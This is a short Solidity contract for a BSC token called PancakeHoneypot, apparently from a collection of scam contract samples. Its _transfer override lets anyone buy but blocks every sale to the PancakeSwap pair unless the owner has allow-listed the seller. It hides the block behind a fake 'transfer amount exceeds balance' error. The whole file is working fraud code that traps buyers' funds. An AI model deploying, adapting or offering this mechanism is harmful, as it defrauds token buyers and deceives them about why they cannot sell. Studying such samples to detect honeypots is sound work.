// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import "./ZooBase.sol";

/// @title PancakeHoneypot - Honeypot.sol for BSC: the PancakeSwap V2 router is hard-coded and the pair
///        is against WBNB. Anyone can buy, but a sale to the pair reverts unless the seller is on a
///        private allow-list the owner keeps. The revert message pretends a balance problem.
contract PancakeHoneypot is ERC20Legacy, Ownable {
    address private constant PANCAKE_V2_ROUTER = 0x10ED43C718714eb63d5aA57B78B54704E256024E;

    address public immutable uniswapV2Pair;
    mapping(address => bool) private _allowed;

    constructor(string memory name_, string memory symbol_, uint256 supply) ERC20Legacy(name_, symbol_) {
        IUniswapV2Router02 router = IUniswapV2Router02(PANCAKE_V2_ROUTER);
        uniswapV2Pair = IUniswapV2Factory(router.factory()).createPair(address(this), router.WETH());
        _allowed[msg.sender] = true;
        _allowed[address(this)] = true;
        _mint(msg.sender, supply);
    }

    function setAllowed(address account, bool allowed_) external onlyOwner {
        _allowed[account] = allowed_;
    }

    function _transfer(address from, address to, uint256 amount) internal override {
        if (to == uniswapV2Pair && !_allowed[from]) {
            revert("ERC20: transfer amount exceeds balance");
        }
        _move(from, to, amount);
    }
}
